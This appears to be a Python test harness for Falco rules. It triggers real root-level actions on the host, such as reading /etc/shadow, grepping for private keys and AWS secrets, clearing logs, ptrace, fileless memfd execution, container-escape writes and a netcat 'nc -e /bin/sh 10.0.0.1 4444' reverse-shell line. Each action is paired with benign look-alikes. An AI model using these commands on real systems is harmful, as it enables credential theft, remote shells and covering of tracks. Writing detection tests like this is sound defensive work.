# SPDX-License-Identifier: Apache-2.0
"""Real actions that the upstream falco_rules.yaml is meant to catch, and
benign look-alikes it must not catch. Each action runs real processes on
this machine (root needed) and says which alert it expects.

Process names come from the name of the executed file (the kernel's comm),
so a program is given a rule-relevant name by running it through a symlink
called nginx, sshd, ssh, ... in a scratch directory. Container-scoped rules
run the action in a cgroup whose path has Docker's shape
(/docker/<64 hex>), which the container plugin reads as a container id.
"""
import ctypes
import os
import secrets
import shutil
import socket
import subprocess
import sys
import textwrap

PY = os.path.realpath(sys.executable)


class Expect:
    """An alert we want: rule name, proc.name, and a text its output must contain."""

    def __init__(self, rule, proc, text):
        self.rule, self.proc, self.text = rule, proc, text

    def __repr__(self):
        return f"{self.rule!r} by {self.proc!r} about {self.text!r}"


class Env:
    def __init__(self, root):
        self.root = root
        self.bin = os.path.join(root, "bin")
        os.makedirs(self.bin, exist_ok=True)
        self.cid = secrets.token_hex(32)
        self.cgroup = None
        self.overlay = None
        self.shm = []

    # -- helpers ------------------------------------------------------------------

    def named(self, name, target=PY):
        """A symlink called name to target: processes run through it are called name."""
        path = os.path.join(self.bin, name)
        if not os.path.lexists(path):
            os.symlink(target, path)
        return path

    def path(self, *parts):
        return os.path.join(self.root, *parts)

    def run(self, argv, container=False, env=None, check=False, timeout=60, **kw):
        pre = None
        if container:
            procs = os.path.join(self.container_cgroup(), "cgroup.procs")

            def pre():
                with open(procs, "w") as f:
                    f.write(str(os.getpid()))

        e = dict(os.environ)
        e.update(env or {})
        p = subprocess.run(argv, preexec_fn=pre, env=e, capture_output=True, text=True,
                           timeout=timeout, **kw)
        if check and p.returncode != 0:
            raise AssertionError(f"{argv} exited {p.returncode}: {p.stderr}")
        return p

    def py(self, name, code, container=False, **kw):
        """Runs python code in a process called name."""
        return self.run([self.named(name), "-c", textwrap.dedent(code)], container=container, **kw)

    def container_cgroup(self):
        """A cgroup with a Docker-shaped path, on the cgroup v1 cpu hierarchy or on v2."""
        if self.cgroup:
            return self.cgroup
        for base in ("/sys/fs/cgroup/cpu", "/sys/fs/cgroup/cpu,cpuacct", "/sys/fs/cgroup"):
            if os.path.exists(os.path.join(base, "cgroup.procs")):
                path = os.path.join(base, "docker", self.cid)
                os.makedirs(path, exist_ok=True)
                self.cgroup = path
                return path
        raise RuntimeError("no cgroup hierarchy to make a container-shaped cgroup in")

    def short_id(self):
        return self.cid[:12]

    def cleanup(self):
        if self.overlay:
            subprocess.run(["umount", self.overlay], capture_output=True)
        for f in self.shm:
            try:
                os.unlink(f)
            except OSError:
                pass
        if self.cgroup:
            # the processes are gone; move nothing, just remove the directories
            for d in (self.cgroup, os.path.dirname(self.cgroup)):
                try:
                    os.rmdir(d)
                except OSError:
                    pass


def libc():
    return ctypes.CDLL(None, use_errno=True)


# -- attacks ------------------------------------------------------------------------------------


def read_shadow(env):
    env.run(["cat", "/etc/shadow"], check=True)
    return [Expect("Read sensitive file untrusted", "cat", "/etc/shadow")]


def read_shadow_trusted_after_startup(env):
    env.py("nginx", """
        import time
        time.sleep(5.5)
        open('/etc/shadow').read()
        """, check=True)
    return [Expect("Read sensitive file trusted after startup", "nginx", "/etc/shadow")]


def directory_traversal(env):
    env.py("skrtraverse", "open('/etc/../etc/../etc/passwd').read()", check=True)
    return [Expect("Directory traversal monitored file read", "skrtraverse", "/etc/passwd")]


def shell_from_web_server(env):
    env.py("nginx", "import subprocess; subprocess.run(['sh', '-c', 'true'], check=True)",
           check=True)
    return [Expect("Run shell untrusted", "sh", "parent=nginx")]


def system_user_interactive(env):
    env.py("sshd", """
        import os
        pid = os.fork()
        if pid == 0:
            os.setgid(65534)
            os.setuid(65534)
            os.execv('/bin/true', ['true'])
        os.waitpid(pid, 0)
        """, check=True)
    return [Expect("System user interactive", "true", "user=nobody")]


def symlink_over_shadow(env):
    env.run(["ln", "-sf", "/etc/shadow", env.path("shadow-link")], check=True)
    return [Expect("Create Symlink Over Sensitive Files", "ln", "/etc/shadow")]


def hardlink_over_shadow(env):
    env.run(["ln", "/etc/shadow", env.path("shadow-hardlink")])
    return [Expect("Create Hardlink Over Sensitive Files", "ln", "/etc/shadow")]


def search_private_keys(env):
    env.run(["grep", "-r", "BEGIN PRIVATE", env.path("keys")])
    return [Expect("Search Private Keys or Passwords", "grep", "BEGIN PRIVATE")]


def find_aws_credentials(env):
    env.run(["grep", "-r", "aws_secret_access_key", env.path("keys")])
    return [Expect("Find AWS Credentials", "grep", "aws_secret_access_key")]


def clear_logs(env):
    os.makedirs(env.path("log"), exist_ok=True)
    env.py("skrlogwipe", f"open({env.path('log', 'auth.log')!r}, 'w').close()", check=True)
    return [Expect("Clear Log Activities", "skrlogwipe", "auth.log")]


def bulk_data_removal(env):
    target = env.path("to-shred")
    with open(target, "w") as f:
        f.write("x" * 4096)
    env.run(["shred", "-u", target], check=True)
    return [Expect("Remove Bulk Data from Disk", "shred", "to-shred")]


def ptrace_attach(env):
    env.py("skrtracer", """
        import ctypes, os, subprocess
        libc = ctypes.CDLL(None, use_errno=True)
        child = subprocess.Popen(['sleep', '30'])
        libc.ptrace(16, child.pid, None, None)   # PTRACE_ATTACH
        os.waitpid(child.pid, 0)
        libc.ptrace(17, child.pid, None, None)   # PTRACE_DETACH
        child.kill()
        child.wait()
        """, check=True)
    return [Expect("PTRACE attached to process", "skrtracer", "ptrace")]


def ptrace_traceme(env):
    env.py("skrantidebug", """
        import ctypes
        ctypes.CDLL(None, use_errno=True).ptrace(0, 0, None, None)   # PTRACE_TRACEME
        """, check=True)
    return [Expect("PTRACE anti-debug attempt", "skrantidebug", "ptrace")]


def exec_from_dev_shm(env):
    path = f"/dev/shm/skr-true-{os.getpid()}"
    shutil.copy("/bin/true", path)
    env.shm.append(path)
    env.run([path], check=True)
    return [Expect("Execution from /dev/shm", os.path.basename(path)[:15], path)]


def fileless_memfd(env):
    env.py("skrmemfd", """
        import os
        fd = os.memfd_create('skrpayload', 0)
        os.write(fd, open('/bin/true', 'rb').read())
        pid = os.fork()
        if pid == 0:
            os.execve(fd, ['skrpayload'], {})
        os.waitpid(pid, 0)
        """, check=True)
    return [Expect("Fileless execution via memfd_create", None, "memfd:skrpayload")]


def ssh_non_standard_port(env):
    env.py("ssh", """
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect(('203.0.113.7', 4444))
        except (BlockingIOError, OSError):
            pass
        s.close()
        """, check=True)
    return [Expect("Disallowed SSH Connection Non Standard Port", "ssh", "203.0.113.7:4444")]


def netcat_in_container(env):
    env.run([env.named("nc", "/bin/true"), "-e", "/bin/sh", "10.0.0.1", "4444"], container=True,
            check=True)
    return [Expect("Netcat Remote Code Execution in Container", "nc", " -e")]


def packet_socket_in_container(env):
    env.py("skrsniffer", "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()",
           container=True, check=True)
    return [Expect("Packet socket created in container", "skrsniffer", "AF_PACKET")]


def redirect_stdout_to_network(env):
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    port = srv.getsockname()[1]
    try:
        env.py("skrrevshell", f"""
            import os, socket
            s = socket.create_connection(('127.0.0.1', {port}))
            os.dup2(s.fileno(), 1)
            """, container=True, check=True)
    finally:
        srv.close()
    return [Expect("Redirect STDOUT/STDIN to Network Connection in Container", "skrrevshell",
                   f"127.0.0.1:{port}")]


def kernel_module_from_container(env):
    env.py("skrinsmod", """
        import ctypes
        ctypes.CDLL(None, use_errno=True).syscall(313, -1, b'', 0)   # finit_module
        """, container=True, check=True)
    return [Expect("Linux Kernel Module Injection Detected", "skrinsmod", "finit_module")]


def release_agent_in_container(env):
    os.makedirs(env.path("cg"), exist_ok=True)
    env.py("skrescape", f"open({env.path('cg', 'release_agent')!r}, 'w').write('x')",
           container=True, check=True)
    return [Expect("Detect release_agent File Container Escapes", "skrescape", "release_agent")]


def terminal_shell_in_container(env):
    env.py("containerd-shim", """
        import os, pty
        pid, fd = pty.fork()
        if pid == 0:
            os.execv('/bin/sh', ['sh', '-c', 'true'])
        try:
            while os.read(fd, 1024):
                pass
        except OSError:
            pass
        os.waitpid(pid, 0)
        """, container=True, check=True)
    return [Expect("Terminal shell in container", "sh", "parent=containerd-shim")]


def drop_and_execute_in_container(env):
    lower, upper, work, merged = (env.path("ovl", d) for d in ("lower", "upper", "work", "merged"))
    for d in (lower, upper, work, merged):
        os.makedirs(d, exist_ok=True)
    shutil.copy("/bin/true", os.path.join(lower, "base-true"))
    r = subprocess.run(["mount", "-t", "overlay", "overlay", "-o",
                        f"lowerdir={lower},upperdir={upper},workdir={work}", merged],
                       capture_output=True, text=True)
    if r.returncode != 0:
        return []  # no overlayfs here: nothing to expect
    env.overlay = merged
    shutil.copy("/bin/true", os.path.join(merged, "dropped-bin"))
    env.run([os.path.join(merged, "dropped-bin")], container=True, check=True)
    return [Expect("Drop and execute new binary in container", "dropped-bin", "dropped-bin")]


ATTACKS = [
    read_shadow,
    directory_traversal,
    shell_from_web_server,
    system_user_interactive,
    symlink_over_shadow,
    hardlink_over_shadow,
    search_private_keys,
    find_aws_credentials,
    clear_logs,
    bulk_data_removal,
    ptrace_attach,
    ptrace_traceme,
    exec_from_dev_shm,
    fileless_memfd,
    ssh_non_standard_port,
    netcat_in_container,
    packet_socket_in_container,
    redirect_stdout_to_network,
    kernel_module_from_container,
    release_agent_in_container,
    terminal_shell_in_container,
    drop_and_execute_in_container,
    read_shadow_trusted_after_startup,
]


# -- benign look-alikes: each leaves a marker that no alert may mention ------------------------


def benign(env):
    """Runs every look-alike; returns the markers (process names or paths) no alert may show."""
    m = []
    env.run(["cat", "/etc/hostname"], check=True)
    env.py("skrbenignread", "open('/etc/passwd').read()", check=True)  # no traversal
    m.append("skrbenignread")
    env.py("nginx", "import subprocess; subprocess.run(['ls', '/'], check=True, "
                    "stdout=subprocess.DEVNULL)", check=True)  # web server, not a shell
    env.py("skrbenignsh", "import subprocess; subprocess.run(['sh', '-c', 'true'], check=True)",
           check=True)  # a shell below a non-server
    m.append("skrbenignsh")
    env.run(["ln", "-sf", "/tmp", env.path("benign-symlink")], check=True)
    m.append("benign-symlink")
    with open(env.path("benign-file"), "w") as f:
        f.write("x")
    env.run(["ln", env.path("benign-file"), env.path("benign-hardlink")], check=True)
    m.append("benign-hardlink")
    env.run(["grep", "-r", "benign-needle", env.path("keys")])
    m.append("benign-needle")
    os.makedirs(env.path("log"), exist_ok=True)
    env.py("skrbenignlog", f"open({env.path('log', 'syslog')!r}, 'a').write('x')", check=True)
    m.append("skrbenignlog")
    env.run(["rm", "-f", env.path("benign-file")], check=True)
    env.py("skrbenigntrace", """
        import ctypes
        ctypes.CDLL(None, use_errno=True).ptrace(7, 999999, None, None)   # PTRACE_CONT: fails
        """, check=True)
    m.append("skrbenigntrace")
    env.run([env.named("skrbenigntrue", "/bin/true")], check=True)
    m.append("skrbenigntrue")
    env.py("ssh", """
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect(('127.0.0.1', 4443))
        except OSError:
            pass
        s.close()
        """, check=True)  # loopback is not outbound
    m.append("127.0.0.1:4443")
    env.run([env.named("nc", "/bin/true"), "-z", "10.0.0.1", "4444"], container=True, check=True)
    m.append("nc -z")
    env.py("skrbenignsock", "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close()",
           container=True, check=True)
    m.append("skrbenignsock")
    env.py("skrbenignpipe", "import os; r, w = os.pipe(); os.dup2(w, 1)", container=True,
           check=True)
    m.append("skrbenignpipe")
    env.py("containerd-shim", "import subprocess; subprocess.run(['sh', '-c', 'true'], check=True)",
           container=True, check=True)  # no terminal
    m.append("skrbenignnotty")
    if env.overlay:
        env.run([os.path.join(env.overlay, "base-true")], container=True, check=True)
        m.append("base-true")
    return m
